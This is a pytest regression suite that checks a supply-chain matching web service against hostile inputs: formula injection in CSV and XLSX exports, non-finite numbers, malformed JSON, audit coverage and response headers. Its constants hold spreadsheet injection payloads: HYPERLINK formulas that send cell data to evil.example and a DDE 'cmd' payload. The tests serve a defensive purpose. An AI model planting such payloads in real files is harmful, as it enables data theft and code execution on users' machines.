"""Hostile values (issue 14), each reproduction a regression test, over real HTTP on the sample chain:
spreadsheet formulas in every export, non-finite and out-of-range numbers, malformed JSON, an audit
row for every read of a gap list through any route, chain ids kept by their region, server-set
dashboard messages only, download headers, no key ids in job status."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import time
import zipfile
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import text

from chainmatch.chains.render import ReportFormat, render
from chainmatch.chains.schemas import ChainReport
from chainmatch.db import make_engine
from chainmatch.exports import FORMULA_TRIGGERS, csv_bytes, guard_text, is_formula_like, xlsx_append
from chainmatch.jsonsafe import MAX_DEPTH
from tests.chainmatch.test_chains import CHAIN_ID
from tests.conftest import World
from tests.web.test_dashboard import csrf_of, login

EVIL_NAME = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
EVIL_TAG = "-2+3"
EVIL_PRODUCT = "@SUM(1,1)"
EVIL_FOR = '=HYPERLINK("http://evil.example/leader","Open")'
EVIL_REASON = "+1+cmd|'/C calc'!A0"


pytestmark = pytest.mark.world(chain=True, rate_limit_per_minute=0)  # the sample and its chain, in process


def client(world: World, role: str) -> httpx.Client:
    server, keys = world
    return server.client(getattr(keys, role))


def raw_post(
    c: httpx.Client, path: str, body: str | bytes, content_type: str = "application/json"
) -> httpx.Response:
    return c.post(path, content=body, headers={"content-type": content_type})


def locs(response: httpx.Response) -> list[list[Any]]:
    detail = response.json()["detail"]
    assert isinstance(detail, list), detail
    return [d["loc"] for d in detail]


def chinese(message: str) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in message)


def count_lists(world: World) -> int:
    with client(world, "admin") as c:
        return len(c.get("/v1/gap-lists", params={"limit": 200}).json()["items"])


def new_list(world: World, items: list[dict[str, Any]], title: str = "测试清单") -> dict[str, Any]:
    with client(world, "leader_a") as c:
        response = c.post("/v1/gap-lists", json={"title": title, "items": items})
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


def audit_rows(world: World, object_id: str) -> list[dict[str, Any]]:
    with client(world, "admin") as c:
        response = c.get("/v1/audit", params={"object_id": object_id, "limit": 200})
    assert response.status_code == 200
    rows: list[dict[str, Any]] = response.json()["items"]
    return rows


# ------------------------------------------------------------------------------- 1. formulas
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def assert_csv_inert(data: bytes) -> list[list[str]]:
    """No cell a spreadsheet would evaluate: text starting with a trigger is prefixed; a plain
    negative number ("-0.5") is a number, not a formula."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell) or NUMBER.match(cell), cell
    return rows


def assert_xlsx_inert(data: bytes) -> list[Any]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not is_formula_like(cell.value), (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


@pytest.fixture(scope="module")
def planted(world: World) -> dict[str, Any]:
    """A hostile firm (name, tag, product) making 涡轮分子泵 outside the region, and a leader's list
    whose item goes into a formula."""
    firm = {
        "id": "EVIL-1",
        "name": EVIL_NAME,
        "province": "江苏省",
        "city": "苏州市",
        "tags": [EVIL_TAG],
        "products": [{"name": "涡轮分子泵", "share": 0.8}, {"name": EVIL_PRODUCT, "share": 0.2}],
        "description": "涡轮分子泵 研发制造",
    }
    with client(world, "admin") as c:
        response = c.post("/v1/firms", json=[firm])
    assert response.status_code == 200, response.text
    return new_list(
        world,
        [{"name": "涡轮分子泵", "for_product": EVIL_FOR, "import_share": 0.99, "risk_level": 5}],
        title="公式清单",
    )


REPORT_BODY = {"k": 30, "top": 30, "products_per_link": 3, "min_match_score": 0}


def test_report_csv_and_xlsx_write_formulas_as_text(world: World, planted: dict[str, Any]) -> None:
    with client(world, "bureau_gd") as c:
        as_csv = c.post(f"/v1/chains/{CHAIN_ID}/report", params={"format": "csv"}, json=REPORT_BODY)
        as_xlsx = c.post(f"/v1/chains/{CHAIN_ID}/report", params={"format": "xlsx"}, json=REPORT_BODY)
    assert as_csv.status_code == 200 and as_xlsx.status_code == 200
    cells = {cell for row in assert_csv_inert(as_csv.content) for cell in row}
    assert guard_text(EVIL_NAME) in cells  # the firm is there, as text
    assert guard_text(EVIL_FOR) in cells
    assert any(guard_text(EVIL_TAG) in cell for cell in cells)
    values = assert_xlsx_inert(as_xlsx.content)
    assert guard_text(EVIL_NAME) in values and guard_text(EVIL_FOR) in values


def test_outreach_feedback_csv_writes_formulas_as_text(world: World, planted: dict[str, Any]) -> None:
    body = {
        "chain_id": CHAIN_ID,
        "node_id": "vacuum",
        "product": EVIL_REASON,
        "firm_id": "EVIL-1",
        "stage": "declined",
        "reason": "=1+1",
    }
    with client(world, "bureau_gd") as c:
        created = c.post("/v1/outreach", json=body)
        assert created.status_code == 201, created.text
        exported = c.get("/v1/outreach/feedback", params={"format": "csv"})
    assert exported.status_code == 200
    cells = {cell for row in assert_csv_inert(exported.content) for cell in row}
    assert guard_text(EVIL_REASON) in cells and "'=1+1" in cells
    for header, value in {
        "cache-control": "no-store",
        "x-content-type-options": "nosniff",
    }.items():
        assert exported.headers[header] == value


TRIGGERS = sorted(FORMULA_TRIGGERS)
hostile_text = st.one_of(
    st.text(max_size=30),
    st.builds(lambda t, rest: t + rest, st.sampled_from(TRIGGERS), st.text(max_size=30)),
    st.builds(lambda c, rest: c + rest, st.sampled_from(["\x01", "\x0b", "\x1f"]), st.sampled_from(TRIGGERS)),
)
cell_values = st.one_of(
    hostile_text, st.integers(-(2**40), 2**40), st.floats(allow_nan=True, allow_infinity=True), st.none()
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(cell_values, min_size=1, max_size=6), min_size=1, max_size=6))
def test_fuzzed_cells_never_become_formulas(rows: list[list[Any]]) -> None:
    """Generated rows through both writers, opened again: no formula, no non-finite number."""
    assert_csv_inert(csv_bytes(["a"], rows))
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        xlsx_append(book.active, row)
    buffer = io.BytesIO()
    book.save(buffer)
    for value in assert_xlsx_inert(buffer.getvalue()):
        assert not (isinstance(value, float) and not math.isfinite(value))


def test_numbers_beyond_a_spreadsheets_range_are_written_as_text() -> None:
    # Hypothesis found it: the largest finite floats were stored and read back as inf.
    from openpyxl import Workbook

    book = Workbook()
    xlsx_append(book.active, [1.7976931348623155e308, -1.7976931348623155e308, 9.99999999999999e307, 1.5])
    buffer = io.BytesIO()
    book.save(buffer)
    assert assert_xlsx_inert(buffer.getvalue()) == [
        "1.7976931348623155e+308",
        "'-1.7976931348623155e+308",
        9.99999999999999e307,
        1.5,
    ]


@pytest.fixture(scope="module")
def report_json(world: World, planted: dict[str, Any]) -> dict[str, Any]:
    with client(world, "bureau_gd") as c:
        response = c.post(f"/v1/chains/{CHAIN_ID}/report", json=REPORT_BODY)
    assert response.status_code == 200
    data: dict[str, Any] = response.json()
    return data


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=hostile_text, tag=hostile_text, product=hostile_text, reason=hostile_text)
def test_fuzzed_reports_open_without_formulas(
    report_json: dict[str, Any], name: str, tag: str, product: str, reason: str
) -> None:
    """A real report with generated texts in every firm field: the CSV and XLSX renderers write
    no formula, whatever the texts begin with."""
    data = json.loads(json.dumps(report_json))
    for entry in data["investment_map"]:
        for products in entry["products"]:
            products["product"] = product
            # Two firms per list carry the texts through every column, section and province sheet as
            # thirty do (the rest would repeat the same cells: 7,500 rows an example instead of ~500).
            del products["investment_targets"][2:], products["local_suppliers"][2:]
            for m in products["investment_targets"] + products["local_suppliers"]:
                m.update(name=name, tags=[tag], reasons=[reason])
    report = ChainReport.model_validate(data)
    assert_csv_inert(render(report, ReportFormat.CSV))
    assert_xlsx_inert(render(report, ReportFormat.XLSX))


# ------------------------------------------------------------------------------- 2. numbers
def test_non_finite_demand_is_422_and_nothing_is_written(world: World) -> None:
    before = count_lists(world)
    body = '{"title":"t","items":[{"name":"涡轮分子泵","annual_demand_cny":1e309}]}'
    with client(world, "leader_a") as c:
        response = raw_post(c, "/v1/gap-lists", body)
    assert response.status_code == 422
    assert locs(response) == [["body", "items", 0, "annual_demand_cny"]]
    assert chinese(response.json()["detail"][0]["msg"])
    assert count_lists(world) == before


def test_firm_revenue_1e999_and_huge_employees_are_422(world: World) -> None:
    with client(world, "admin") as c:
        inf = raw_post(c, "/v1/firms", '[{"id":"INF-1","name":"无穷公司","revenue_cny":1e999}]')
        assert inf.status_code == 422 and locs(inf) == [["body", 0, "revenue_cny"]]
        big = raw_post(c, "/v1/firms", '[{"id":"BIG-1","name":"大公司","employees":1180591620717411303424}]')
        assert big.status_code == 422 and locs(big) == [["body", 0, "employees"]]
        # within 64 bits but beyond any firm: the importer's per-record error names the field
        many = c.post("/v1/firms", json=[{"id": "BIG-2", "name": "大公司", "employees": 2**40}])
        assert many.status_code == 422
        assert [(e["field"], chinese(e["message"])) for e in many.json()["errors"]] == [("employees", True)]
        # NDJSON bulk bodies: per record, with the field
        nd = raw_post(
            c, "/v1/firms", '{"id":"INF-2","name":"无穷","revenue_cny":NaN}\n', "application/x-ndjson"
        )
        assert nd.status_code == 422 and "revenue_cny" in nd.json()["errors"][0]["message"]
        patch = raw_post(c, "/v1/firms/INF-1", "{}")  # POST to a PATCH route: not a 500 either
        assert patch.status_code in (404, 405)
        patched = c.request(
            "PATCH",
            "/v1/firms/EVIL-1",
            content='{"revenue_cny":Infinity}',
            headers={"content-type": "application/json"},
        )
        assert patched.status_code == 422 and locs(patched) == [["body", "revenue_cny"]]
        for firm_id in ("INF-1", "BIG-1", "BIG-2", "INF-2"):
            assert c.get(f"/v1/firms/{firm_id}").status_code == 404


def test_pages_stay_up_with_non_finite_values_already_stored(world: World) -> None:
    """Values stored before validation refused them (+inf demand, NaN share) never reach a renderer."""
    server, _ = world
    gap_list = new_list(
        world, [{"name": "分子泵", "annual_demand_cny": 1.0, "import_share": 0.5}], "遗留数据"
    )
    db = make_engine(server.settings)
    with db.begin() as conn:
        conn.execute(
            text("UPDATE gap_item SET annual_demand_cny = :inf, import_share = :nan WHERE gap_list_id = :id"),
            {"inf": math.inf, "nan": math.nan, "id": gap_list["id"]},
        )
    db.dispose()
    try:
        with client(world, "bureau_gd") as c:
            assert c.get(f"/v1/chains/{CHAIN_ID}/weak-links").status_code == 200
            for fmt in ("html", "xlsx", "csv", "json"):
                response = c.post(
                    f"/v1/chains/{CHAIN_ID}/report", params={"format": fmt}, json={"k": 2, "top": 2}
                )
                assert response.status_code == 200, (fmt, response.text[:300])
            job = c.post(f"/v1/chains/{CHAIN_ID}/report-jobs", json={"k": 2, "top": 2}).json()
            assert wait_for_job(c, job["id"]) == "done"
            assert c.get(f"/v1/report-jobs/{job['id']}/result", params={"format": "html"}).status_code == 200
        with server.client() as b:
            login(b, world[1].bureau_gd)
            assert b.get(f"/chains/{CHAIN_ID}").status_code == 200
            assert (
                b.get(f"/chains/{CHAIN_ID}/links/vacuum", params={"k": 2, "products": 1}).status_code == 200
            )
            assert b.get(f"/chains/{CHAIN_ID}/report.html", params={"k": 2, "top": 2}).status_code == 200
    finally:
        with client(world, "leader_a") as c:
            assert c.delete(f"/v1/gap-lists/{gap_list['id']}").status_code == 204


def wait_for_job(c: httpx.Client, job_id: str) -> str:
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        state = str(c.get(f"/v1/report-jobs/{job_id}").json()["state"])
        if state in ("done", "failed"):
            return state
        time.sleep(0.2)
    raise AssertionError("job did not finish")


# ------------------------------------------------------------------------------- 3. malformed JSON
def deep(n: int) -> str:
    return "[" * n + "]" * n


@pytest.mark.parametrize("path", ["/v1/firms", "/v1/product-relations"])
@pytest.mark.parametrize("content_type", ["application/json", "application/x-ndjson"])
def test_deep_nesting_is_422(world: World, path: str, content_type: str) -> None:
    with client(world, "admin") as c:
        for body in (deep(100_000), '{"id":"D-1","name":"深","industry":' + deep(MAX_DEPTH + 5) + "}"):
            response = raw_post(c, path, body, content_type)
            assert response.status_code == 422, response.text[:300]
        assert c.get("/v1/firms/D-1").status_code == 404


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ('{"text":"涡轮分子泵","min_score":NaN}', ["body", "min_score"]),
        ('{"text":"涡轮分子泵","min_score":Infinity}', ["body", "min_score"]),
        ('{"text":"涡轮分子泵","k":-Infinity}', ["body", "k"]),
        ('{"text":"涡轮分子泵","k":1e999}', ["body", "k"]),
        ('{"text":"涡\\ud800轮"}', ["body", "text"]),
        ('{"text":"涡轮","filters":{"\\udc00":1}}', ["body", "filters"]),
    ],
)
def test_match_refuses_nan_infinity_and_surrogates(world: World, body: str, loc: list[Any]) -> None:
    with client(world, "bureau_gd") as c:
        response = raw_post(c, "/v1/match", body)
    assert response.status_code == 422 and locs(response) == [loc]
    assert chinese(response.json()["detail"][0]["msg"])


def test_report_and_outreach_refuse_non_finite_numbers(world: World, planted: dict[str, Any]) -> None:
    with client(world, "bureau_gd") as c:
        report = raw_post(c, f"/v1/chains/{CHAIN_ID}/report", '{"min_match_score":NaN}')
        assert report.status_code == 422 and locs(report) == [["body", "min_match_score"]]
        job = raw_post(c, f"/v1/chains/{CHAIN_ID}/report-jobs", '{"min_score":Infinity}')
        assert job.status_code == 422 and locs(job) == [["body", "min_score"]]
        before = len(c.get("/v1/outreach", params={"limit": 200}).json()["items"])
        body = json.dumps(
            {"chain_id": CHAIN_ID, "node_id": "vacuum", "product": "分子泵", "firm_id": "EVIL-1"}
        )
        body = body[:-1] + ',"score":1e999}'
        outreach = raw_post(c, "/v1/outreach", body)
        assert outreach.status_code == 422 and locs(outreach) == [["body", "score"]]
        json.dumps(outreach.json(), allow_nan=False)  # the 422 body itself is valid JSON
        assert len(c.get("/v1/outreach", params={"limit": 200}).json()["items"]) == before
        # a query parameter "nan" is refused with a body that serialises
        nan_query = c.get("/v1/gap-lists/gl_x/recommendations", params={"min_score": "nan"})
        assert nan_query.status_code in (404, 422)


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ('{"title":"\\ud800","items":[{"name":"泵"}]}', ["body", "title"]),
        ('{"title":"t","items":[{"name":"泵\\udfff"}]}', ["body", "items", 0, "name"]),
        (
            '{"title":"t","items":[{"name":"泵","risk_level":1180591620717411303424}]}',
            ["body", "items", 0, "risk_level"],
        ),
    ],
)
def test_gap_list_refuses_lone_surrogates_and_huge_ints(world: World, body: str, loc: list[Any]) -> None:
    before = count_lists(world)
    with client(world, "leader_a") as c:
        response = raw_post(c, "/v1/gap-lists", body)
    assert response.status_code == 422 and locs(response) == [loc]
    assert count_lists(world) == before


# ------------------------------------------------------------------------------- 4. audit
def test_every_read_of_a_list_through_a_chain_is_audited(world: World) -> None:
    server, keys = world
    gap_list = new_list(world, [{"name": "涡轮分子泵", "import_share": 0.7}], "审计清单")
    list_id, version = gap_list["id"], gap_list["version"]

    def new_rows(action: str, route_part: str) -> None:
        rows = [
            r
            for r in audit_rows(world, list_id)
            if r["action"] == action and route_part in (r["route"] or "") and r["role"] == "bureau"
        ]
        assert rows, (action, route_part, audit_rows(world, list_id))
        assert all(r["object_type"] == "gap_list" and r["object_version"] == version for r in rows)

    with client(world, "bureau_gd") as c:
        assert c.get(f"/v1/chains/{CHAIN_ID}/weak-links").status_code == 200
        new_rows("weak_links", f"GET /v1/chains/{CHAIN_ID}/weak-links")
        assert c.get(f"/v1/chains/{CHAIN_ID}/gap-candidates").status_code == 200
        new_rows("gap_candidates", f"GET /v1/chains/{CHAIN_ID}/gap-candidates")
        assert c.post(f"/v1/chains/{CHAIN_ID}/report", json={"k": 1, "top": 1}).status_code == 200
        new_rows("report", f"POST /v1/chains/{CHAIN_ID}/report")
        job = c.post(f"/v1/chains/{CHAIN_ID}/report-jobs", json={"k": 1, "top": 1}).json()
        assert "owner_key_id" not in job
        assert wait_for_job(c, job["id"]) == "done"
        status = c.get(f"/v1/report-jobs/{job['id']}").json()
        assert "owner_key_id" not in status
        assert c.get(f"/v1/report-jobs/{job['id']}/result").status_code == 200
        new_rows("report", f"GET /v1/report-jobs/{job['id']}/result")
    with server.client() as b:
        login(b, keys.bureau_gd)
        assert b.get(f"/chains/{CHAIN_ID}").status_code == 200
        new_rows("weak_links", f"GET /chains/{CHAIN_ID}")
        assert b.get(f"/chains/{CHAIN_ID}/report.csv", params={"k": 1, "top": 1}).status_code == 200
        new_rows("report", f"GET /chains/{CHAIN_ID}/report.csv")
        # the dashboard's script starts and fetches report jobs on the same /v1 routes, signed in by
        # its cookie and sending the page's CSRF token: the same audit rows as a key's calls
        page = b.get(f"/chains/{CHAIN_ID}")
        started = b.post(
            f"/v1/chains/{CHAIN_ID}/report-jobs",
            json={"k": 1, "top": 1},
            headers={"X-CSRF-Token": csrf_of(page.text)},
        )
        assert started.status_code == 202 and "owner_key_id" not in started.json()
        job_id = started.json()["id"]
        assert wait_for_job(b, job_id) == "done"
        assert b.get(f"/v1/report-jobs/{job_id}/result", params={"format": "xlsx"}).status_code == 200
        new_rows("report", f"GET /v1/report-jobs/{job_id}/result")
    # a revision is read at its new version
    with client(world, "leader_a") as c:
        revised = c.put(f"/v1/gap-lists/{list_id}", json={"title": "审计清单", "items": [{"name": "分子泵"}]})
        assert revised.status_code == 200
    with client(world, "bureau_gd") as c:
        c.get(f"/v1/chains/{CHAIN_ID}/weak-links")
    latest = [r for r in audit_rows(world, list_id) if r["action"] == "weak_links"][-1]
    assert latest["object_version"] == 2
    # another region's bureau reads nothing of the list, and so leaves no row for it
    count = len(audit_rows(world, list_id))
    with client(world, "bureau_js") as c:
        assert c.get(f"/v1/chains/{CHAIN_ID}/weak-links").status_code == 200
    assert len(audit_rows(world, list_id)) == count


# ------------------------------------------------------------------------------- 5. chain ids
def test_a_deleted_chain_id_stays_with_its_region(world: World, planted: dict[str, Any]) -> None:
    body = {
        "id": "reserved-x",
        "name": "真空",
        "nodes": [{"id": "v", "name": "真空泵", "segment": "upstream", "products": ["涡轮分子泵"]}],
    }
    with client(world, "bureau_gd") as gd:
        assert gd.post("/v1/chains", json=body).status_code == 201
        record = gd.post(
            "/v1/outreach",
            json={"chain_id": "reserved-x", "node_id": "v", "product": "涡轮分子泵", "firm_id": "EVIL-1"},
        )
        assert record.status_code == 201 and record.json()["chain_version"] == 1
        assert gd.delete("/v1/chains/reserved-x").status_code == 204
    with client(world, "bureau_js") as js:
        taken = js.post("/v1/chains", json=body | {"nodes": [dict(body["nodes"][0], name="江苏真空")]})  # type: ignore[arg-type]
        assert taken.status_code == 409 and chinese(taken.json()["detail"])
    with client(world, "admin") as admin:
        moved = admin.post("/v1/chains", json=body | {"region": {"province": "江苏省"}})
        assert moved.status_code == 409
    with client(world, "bureau_gd") as gd:
        again = gd.post("/v1/chains", json=body)
        assert again.status_code == 201 and again.json()["version"] == 2
        assert again.json()["region_province"] == "广东省"
        kept = gd.get(f"/v1/outreach/{record.json()['id']}").json()
        assert kept["chain_version"] == 1 and kept["region_province"] == "广东省"


# ------------------------------------------------------------------------------- 6. small
def test_dashboard_shows_only_messages_the_server_set(world: World, planted: dict[str, Any]) -> None:
    server, keys = world
    phishing = "请将 API 密钥发送至 evil@example.com"
    with server.client() as b:
        login(b, keys.bureau_gd)
        forged = b.get("/", params={"msg": phishing, "kind": "ok"})
        assert forged.status_code == 200 and phishing not in forged.text and 'id="flash"' not in forged.text
        signed_elsewhere = b.get("/", params={"msg": phishing, "kind": "ok", "sig": "0" * 32})
        assert phishing not in signed_elsewhere.text
        page = b.get(f"/chains/{CHAIN_ID}/links/vacuum", params={"k": 2, "products": 1})
        moved = b.post(
            "/outreach",
            data={
                "csrf": csrf_of(page.text),
                "chain_id": CHAIN_ID,
                "node_id": "vacuum",
                "product": "磁悬浮分子泵",
                "firm_id": "EVIL-1",
                "next": "/pipeline",
            },
            follow_redirects=True,
        )
        assert moved.status_code == 200 and 'id="flash"' in moved.text and "加入跟踪" in moved.text


def test_downloads_are_not_cached_sniffed_or_scripted(world: World, planted: dict[str, Any]) -> None:
    with client(world, "bureau_gd") as c:
        for fmt in ("html", "csv", "xlsx", "json"):
            response = c.post(
                f"/v1/chains/{CHAIN_ID}/report", params={"format": fmt}, json={"k": 1, "top": 1}
            )
            assert response.status_code == 200
            assert response.headers["cache-control"] == "no-store"
            assert response.headers["x-content-type-options"] == "nosniff"
            csp = response.headers["content-security-policy"]
            assert "default-src 'none'" in csp and "script-src" not in csp and "sandbox" in csp
        for fmt in ("json", "jsonl", "csv"):
            exported = c.get("/v1/outreach/feedback", params={"format": fmt})
            if fmt != "json":
                assert exported.headers["cache-control"] == "no-store"
                assert exported.headers["x-content-type-options"] == "nosniff"
